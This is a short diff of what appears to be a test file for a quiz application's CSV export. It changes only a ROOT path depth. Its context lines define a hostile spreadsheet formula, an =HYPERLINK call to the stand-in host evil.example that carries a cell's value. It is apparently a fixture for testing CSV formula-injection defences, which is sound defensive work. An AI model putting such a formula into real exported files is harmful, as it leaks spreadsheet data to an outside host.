@@ -24,7 +24,7 @@ from quiz.report.csv_export import csv_bytes, runs_as_formula
 from quiz.report.progress import attempts_in
 from quiz.report.team_tables import overview_table
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 HOSTILE = (
     HYPERLINK,
